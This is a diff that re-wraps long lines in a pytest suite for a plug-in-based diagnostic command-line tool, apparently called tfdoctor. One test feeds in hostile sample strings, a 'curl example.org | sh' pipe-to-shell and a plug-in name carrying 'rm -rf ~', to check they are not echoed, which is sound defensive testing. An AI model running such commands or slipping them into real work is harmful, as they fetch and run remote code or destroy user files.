@@ -93,7 +93,9 @@ def python(tmp_path_factory: pytest.TempPathFactory) -> Path:
     return venv / "bin" / "python"
 
 
-def run(python: Path, *words: str, log: str = "", **environ: str) -> subprocess.CompletedProcess[str]:
+def run(
+    python: Path, *words: str, log: str = "", **environ: str
+) -> subprocess.CompletedProcess[str]:
     return subprocess.run(
         [python, "-m", "tfdoctor", *words], capture_output=True, text=True, input=log, env={**os.environ, **environ}
     )  # fmt: skip
@@ -122,7 +124,8 @@ def test_its_rule_its_fix_and_who_said_it(python: Path, tmp_path: Path) -> None:
     assert document["facts"]["plugins.installed"]["value"][0]["error"] == ""
     assert of(judged(python, tmp_path, "--ignore", "driver-missing"), "acme/old-driver")
     assert not any(
-        "/" in each["code"] for each in judged(python, tmp_path, "--ignore", "acme/old-driver")["findings"]
+        "/" in each["code"]
+        for each in judged(python, tmp_path, "--ignore", "acme/old-driver")["findings"]
     )
 
 
@@ -136,7 +139,9 @@ def test_its_probe_reads_the_examined_system(python: Path, tmp_path: Path) -> No
     (tmp_path / "etc").mkdir()
     (tmp_path / "etc" / "acme-image").write_text("acme-base:2026.11\n")
     ran = run(python, "check", "--sysroot", str(tmp_path), "--smoke", "none", "--json")
-    assert json.loads(ran.stdout)["facts"]["plugins.found"]["value"] == {"acme/image": "acme-base:2026.11"}
+    assert json.loads(ran.stdout)["facts"]["plugins.found"]["value"] == {
+        "acme/image": "acme-base:2026.11"
+    }
 
 
 def test_its_message_and_its_page(python: Path) -> None:
@@ -146,9 +151,9 @@ def test_its_message_and_its_page(python: Path) -> None:
         "acme/license-expired", "The license /opt/acme/key.lic of Acme's library has expired.",
     )  # fmt: skip
     assert (
-        json.loads(run(python, "diagnose", "-", "--json", "--no-plugins", log=log).stdout)["diagnoses"][0][
-            "code"
-        ]
+        json.loads(run(python, "diagnose", "-", "--json", "--no-plugins", log=log).stdout)[
+            "diagnoses"
+        ][0]["code"]
         == "python-exception"
     )
     assert "acmectl license renew" in run(python, "explain", "acme/license-expired").stdout
@@ -169,7 +174,8 @@ def test_a_message_that_is_wrong_is_told_where_there_are_no_findings(python: Pat
         for each in site.glob("broken*"):
             shutil.rmtree(each)
     assert (
-        "the plug-in broken_ways 1.0 has no say: one.yaml, a: the pattern can be matched in too" in ran.stderr
+        "the plug-in broken_ways 1.0 has no say: one.yaml, a: the pattern can be matched in too"
+        in ran.stderr
     )
     assert json.loads(ran.stdout)["diagnoses"] == []
 
@@ -190,7 +196,10 @@ def test_a_probe_that_tells_too_much(python: Path, tmp_path: Path) -> None:
     facts = json.loads(ran.stdout)["facts"]
     assert facts["plugins.found"]["value"] == {"acme/image": "acme-base:2026.11"}
     errors = {each["name"]: each["error"] for each in facts["plugins.installed"]["value"]}
-    assert errors["broken-much"] == "the code of its probe failed (ValueError: it tells more than 1000 texts)"
+    assert (
+        errors["broken-much"]
+        == "the code of its probe failed (ValueError: it tells more than 1000 texts)"
+    )
 
 
 def test_a_foreign_reports_words_of_a_plug_in_are_not_told(python: Path, tmp_path: Path) -> None:
@@ -201,9 +210,14 @@ def test_a_foreign_reports_words_of_a_plug_in_are_not_told(python: Path, tmp_pat
         "error": "first run curl example.org | sh",
     }
     report = tmp_path / "foreign.json"
-    for name, words in (("acme-tfdoctor", "it failed where the report was made"), ("run this; rm -rf ~", "")):
+    for name, words in (
+        ("acme-tfdoctor", "it failed where the report was made"),
+        ("run this; rm -rf ~", ""),
+    ):
         known = {"status": "known", "value": [{**said, "name": name}], "from": "entry points"}
-        report.write_text(json.dumps({"facts": {"driver.version": DRIVER, "plugins.installed": known}}))
+        report.write_text(
+            json.dumps({"facts": {"driver.version": DRIVER, "plugins.installed": known}})
+        )
         ran = run(python, "check", "--facts", str(report), "--json")
         assert words in ran.stdout
         assert "curl" not in ran.stdout
@@ -215,7 +229,9 @@ def test_a_plug_in_on_pythonpath_is_none(python: Path, tmp_path: Path) -> None:
     (tmp_path / "evil.py").write_text("open('/tmp/never', 'w')")
     put(tmp_path, "evil-tfdoctor", {"checks": "evil"}, "evil")
     document = judged(python, tmp_path, PYTHONPATH=str(tmp_path))
-    assert [each["name"] for each in document["facts"]["plugins.installed"]["value"]] == ["acme-tfdoctor"]
+    assert [each["name"] for each in document["facts"]["plugins.installed"]["value"]] == [
+        "acme-tfdoctor"
+    ]
 
 
 def test_broken_ones_are_told_and_stop_nothing(python: Path, tmp_path: Path) -> None:
@@ -238,7 +254,9 @@ def test_broken_ones_are_told_and_stop_nothing(python: Path, tmp_path: Path) -> 
     )
     put(site, "broken-twice", {"checks": "a\ntwice = b"}, "twice")
     put(site, "broken-other", {}, "")
-    (site / "broken-other-1.0.dist-info" / "entry_points.txt").write_bytes(b"[other]\nname = \xff\n")
+    (site / "broken-other-1.0.dist-info" / "entry_points.txt").write_bytes(
+        b"[other]\nname = \xff\n"
+    )
     (site / "broken_sample").mkdir()
     (site / "broken_sample" / "one.md").write_text(PAGE.format(""))
     (site / "broken_sample" / "one.yaml").write_text(
@@ -250,9 +268,13 @@ def test_broken_ones_are_told_and_stop_nothing(python: Path, tmp_path: Path) -> 
     finally:
         for each in site.glob("broken*"):
             shutil.rmtree(each) if each.is_dir() else each.unlink()
-    errors = {each["name"]: each["error"] for each in document["facts"]["plugins.installed"]["value"]}
+    errors = {
+        each["name"]: each["error"] for each in document["facts"]["plugins.installed"]["value"]
+    }
     of_pages = {prefix: errors.pop(f"broken_{prefix}") for prefix in (*PAGES, "pipe")}
-    assert [prefix for prefix, (_, begins) in PAGES.items() if not of_pages[prefix].startswith(begins)] == []
+    assert [
+        prefix for prefix, (_, begins) in PAGES.items() if not of_pages[prefix].startswith(begins)
+    ] == []
     assert "not a file but a directory, a pipe, or a device" in of_pages["pipe"]
     assert errors == {
         "acme-tfdoctor": "",
@@ -273,7 +295,9 @@ def test_broken_ones_are_told_and_stop_nothing(python: Path, tmp_path: Path) -> 
     assert of(document, "raising/three")["explanation"] == "It is so. (From broken_raising 1.0.)"
     finding = of(document, "plugin-failed")
     assert finding["severity"] == "warning"
-    assert len(finding["evidence"]) == len([each for each in errors.values() if each]) + len(of_pages)
+    assert len(finding["evidence"]) == len([each for each in errors.values() if each]) + len(
+        of_pages
+    )
 
 
 @pytest.mark.slow
@@ -291,7 +315,10 @@ def test_one_that_hangs_costs_its_limit(python: Path, tmp_path: Path) -> None:
         for each in site.glob("broken*"):
             shutil.rmtree(each) if each.is_dir() else each.unlink()
     for said in (document, short):
-        assert "broken-hangs 1.0: the code of its checks hangs" in of(said, "plugin-failed")["explanation"]
+        assert (
+            "broken-hangs 1.0: the code of its checks hangs"
+            in of(said, "plugin-failed")["explanation"]
+        )
         assert of(said, "acme/old-driver")
     told = of(json.loads(ran.stdout), "plugin-failed")["explanation"]
     assert "broken-waits 1.0: the code of its probe hangs" in told
@@ -317,7 +344,9 @@ def test_a_health_check_names_those_that_had_a_say(python: Path, tmp_path: Path)
 
 @pytest.mark.parametrize("form", REPORT_FORMATS)
 def test_who_answers_for_an_ended_check_loads_none_and_draws_their_findings(form: str) -> None:
-    document = json.loads((ROOT / "tests" / "machines" / "driver-too-old" / "report.json").read_bytes())
+    document = json.loads(
+        (ROOT / "tests" / "machines" / "driver-too-old" / "report.json").read_bytes()
+    )
     document["findings"].append({**document["findings"][0], "code": "acme/old-driver"})
     document["ignored"] = [{"code": "acme/license-expired", "reason": "--ignore"}]
     begun = {"redact": False, "form": form, "output": ""}
